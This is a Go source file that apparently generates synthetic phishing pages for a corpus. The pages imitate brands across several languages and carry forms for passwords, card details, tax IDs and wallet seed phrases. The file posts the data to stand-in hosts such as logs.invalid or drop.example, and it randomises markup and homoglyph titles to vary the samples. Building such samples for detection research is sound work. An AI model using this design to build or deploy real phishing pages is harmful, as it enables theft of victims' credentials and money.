package corpus

import (
	"bytes"
	"embed"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"text/template"
)

//go:embed pages
var files embed.FS

// layouts are the templates of pages/, with <% and %> since the pages are full of braces.
var layouts = template.Must(template.New("").Delims("<%", "%>").ParseFS(files, "pages/*.html"))

// texts has the texts of phishing by language and name; alternatives are separated by |.
var texts = decoded[map[string]map[string]string]("pages/texts.json")

// languages are the languages of the pages; the first ones are the most frequent.
var languages = []string{"en", "en", "en", "en", "de", "de", "fr", "es", "es", "pt", "ja", "zh"}

// brands has the imitated brands by kind; those of one country have the language after a colon.
var brands = decoded[map[string][]string]("pages/brands.json")

// A field is a field of a form.
type field struct {
	Label, Name, Type, Attr string
	S                       *scene
}

// A scene has the texts, the fields and the addresses of a page of phishing.
type scene struct {
	rng *rand.Rand

	Lang, Kind, Brand, Title, Head, Lead, Button, Accent, ID           string
	Send, Long, Host, Real, Sink, Token, Number, Wallet                string
	Inner, Packed, PackedSink, Escaped, Codes, Part, HostParts, Markup string
	A, B, D                                                            string
	Form, Layout                                                       int
	Foot                                                               []string
	Fields                                                             []field
	classes                                                            map[string]string
}

// hosts are the ends of the places to which pages send; a label drawn by rng comes first.
var hosts = []string{"secure-gate.example", "cdn-verify.test", "logs.invalid", "my-panel.example", "account-check.example", "mx-relay.test"}

// newScene returns a scene of a kind. A still one works without its own script.
func newScene(rng *rand.Rand, kind string, still bool) *scene {
	s := &scene{rng: rng, Kind: kind, Lang: pick(rng, languages), classes: map[string]string{}}
	s.imitate(brands[kind])
	s.Form, s.Layout = rng.IntN(4), 1+rng.IntN(6)
	s.speak()
	s.Foot = strings.Split(texts[s.Lang]["foot"], "|")
	s.Accent = pick(rng, []string{"#0067b8", "#003087", "#e50914", "#ff9900", "#1877f2", "#f00000", "#00793a", "#ffcc00", "#5a31f4", "#222"})
	s.ID = pick(rng, []string{"f", "form1", "loginForm", "kc-form", "x", "frm", "theForm"})
	s.Host = fmt.Sprintf("%s%d.%s", pick(rng, []string{"api", "x", "go", "srv", "a"}), rng.IntN(90), pick(rng, hosts))
	s.HostParts = `["` + strings.ReplaceAll(s.Host, ".", `","`) + `"]`
	s.Sink = pick(rng, []string{"https://", "https://", "http://"}) + s.Host
	s.Sink += pick(rng, []string{"/post.php", "/next.php", "/api/log", "/r", "/send/7", "/w/k"})
	s.Real = pick(rng, []string{"www", "login", "auth", "account"}) + ".brand.example"
	s.Number, s.Token, s.Wallet = fmt.Sprint(100000000+rng.IntN(900000000)), s.letters(20), s.hex(40)
	s.Send = pick(rng, []string{"post", "mailhook", "get", "mailto"})
	if !still {
		s.Send = pick(rng, []string{
			"post", "post", "mailhook", "telegram", "telegram", "discord", "fetch", "fetch", "image", "beacon", "socket", "late", "loose", "keys",
		})
	}
	s.ask()
	s.Title = pick(rng, []string{s.Brand + " - " + s.Head, s.Head, s.Brand, s.Head + " | " + s.Brand, "Document", ""})
	return s
}

// imitate sets the brand, and the language of a brand of one country.
func (s *scene) imitate(list []string) {
	brand, lang, national := strings.Cut(pick(s.rng, list), ":")
	s.Brand = brand
	if national {
		s.Lang = lang
	}
}

// speak sets the texts of the scene.
func (s *scene) speak() {
	about := s.Kind
	if s.Brand == "Roblox" || s.Brand == "Fortnite" {
		about = "game"
	}
	s.Head, s.Button = s.any(about+".head"), s.any("button")
	s.Lead = strings.ReplaceAll(s.any(about+".lead"), "{b}", s.Brand)
}

// ask sets the fields of the scene.
func (s *scene) ask() {
	user := pick(s.rng, []string{"email", "user", "login", "username", "loginfmt", "a1"})
	secret := pick(s.rng, []string{"password", "pass", "passwd", "pwd", "psw", "a2"})
	one := func(names ...string) string { return pick(s.rng, names) }
	card := func() {
		s.add("number", one("cardnumber", "cc", "cn", "num", "k1"), one("tel", "text"), ` inputmode="numeric" maxlength="19"`)
		s.add("expiry", one("exp", "expiry", "mmyy", "k2"), "text", ` maxlength="5"`)
		s.add("cvc", one("cvc", "cvv", "csc", "k3"), one("tel", "text", "password"), ` maxlength="4"`)
	}
	switch s.Kind {
	case "login":
		s.add("user", user, one("text", "email", "text"), "")
		s.add(one("pass", "pass", "pass", "pin"), secret, "password", one("", ` autocomplete="off"`, ` autocomplete="current-password"`))
	case "card":
		s.add("name", pick(s.rng, []string{"name", "holder", "ccname"}), "text", "")
		card()
	case "parcel":
		s.add("address", "addr", "text", "")
		s.add("zip", "zip", "text", "")
		s.add("phone", "tel", "tel", "")
		card()
	case "tax":
		s.add("ssn", pick(s.rng, []string{"ssn", "nino", "taxid", "doc"}), "text", "")
		s.add("birth", "dob", "text", "")
		if s.rng.IntN(2) == 0 {
			s.add("iban", "iban", "text", "")
			s.add("pass", secret, "password", "")
			return
		}
		card()
	default:
		s.words()
	}
}

// words asks for a seed phrase: in a large field, or each word in a field of its own.
func (s *scene) words() {
	if s.rng.IntN(2) == 0 {
		s.Long = pick(s.rng, []string{"phrase", "mnemonic", "words", "seed", "text", "message"})
		return
	}
	for i := range 12 {
		label := fmt.Sprintf("%s %d", s.T("word"), i+1)
		s.Fields = append(s.Fields, field{label, fmt.Sprintf("w%d", i+1), "text", ` autocomplete="off"`, s})
	}
}

func (s *scene) add(label, name, kind, attr string) {
	s.Fields = append(s.Fields, field{texts[s.Lang][label], name, kind, attr, s})
}

// T returns a text in the language of the scene.
func (s *scene) T(name string) string { return texts[s.Lang][name] }

// any returns an alternative of a text.
func (s *scene) any(name string) string { return pick(s.rng, strings.Split(texts[s.Lang][name], "|")) }

// C returns the class name of a role, the same one within a page.
func (s *scene) C(role string) string {
	if s.classes[role] == "" {
		s.classes[role] = pick(s.rng, []string{role, "_" + s.letters(6), "css-" + s.hex(6), role + "-" + s.letters(2), "ui_" + role})
	}
	return s.classes[role]
}

// FormAttr returns the attributes of the form.
func (s *scene) FormAttr() string {
	switch s.Send {
	case "post":
		return fmt.Sprintf(`action="%s" method="post"`, s.Sink)
	case "get":
		return fmt.Sprintf(`method="GET" action="%s"`, s.Sink)
	case "mailhook":
		service := pick(s.rng, []string{"formspree.example", "submit-form.example", "getform.example"})
		return fmt.Sprintf(`action="https://%s/f/%s" method="POST"`, service, s.letters(8))
	case "mailto":
		return `action="mailto:box77@drop.example" method="post" enctype="text/plain"`
	}
	return ""
}

// Script returns the script that sends the values of the form.
func (s *scene) Script() string {
	if layouts.Lookup(s.Send) == nil {
		return ""
	}
	return s.render(s.Send)
}

// render returns a template of pages/ with the scene as its data.
func (s *scene) render(name string) string { return rendered(name, s) }

// rendered returns a template of pages/. The templates are part of this package: an error is a mistake there.
func rendered(name string, data any) string {
	var out bytes.Buffer
	if err := layouts.ExecuteTemplate(&out, name, data); err != nil {
		panic(err)
	}
	return out.String()
}

// page returns the whole page without any disguise.
func (s *scene) page() string { return s.render(fmt.Sprintf("layout%d.html", s.Layout)) }

func (s *scene) letters(n int) string {
	return s.draw("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOP0123456789", n)
}

func (s *scene) hex(n int) string { return s.draw("0123456789abcdef", n) }

func (s *scene) draw(alphabet string, n int) string {
	out := make([]byte, n)
	for i := range out {
		out[i] = alphabet[s.rng.IntN(len(alphabet))]
	}
	return string(out)
}

// decoded returns the value of a file of JSON in pages/.
func decoded[T any](name string) (value T) {
	data, err := files.ReadFile(name)
	if err == nil {
		err = json.Unmarshal(data, &value)
	}
	if err != nil {
		panic(err)
	}
	return value
}

// lure returns another title for the same page: with letters that look alike, with a word added, or without a meaning.
func lure(rng *rand.Rand, title string) string {
	switch rng.IntN(4) {
	case 0:
		return strings.NewReplacer("a", "а", "e", "е", "o", "о", "i", "і").Replace(title)
	case 1:
		return strings.NewReplacer("l", "I", "o", "0", "m", "rn").Replace(title)
	case 2:
		return title + pick(rng, []string{" 2026", " Support", " Secure", " ✅", " Login"})
	default:
		return pick(rng, []string{"index", "test", "My site", "new project", "web", "doc-4471", "hello", "untitled"})
	}
}
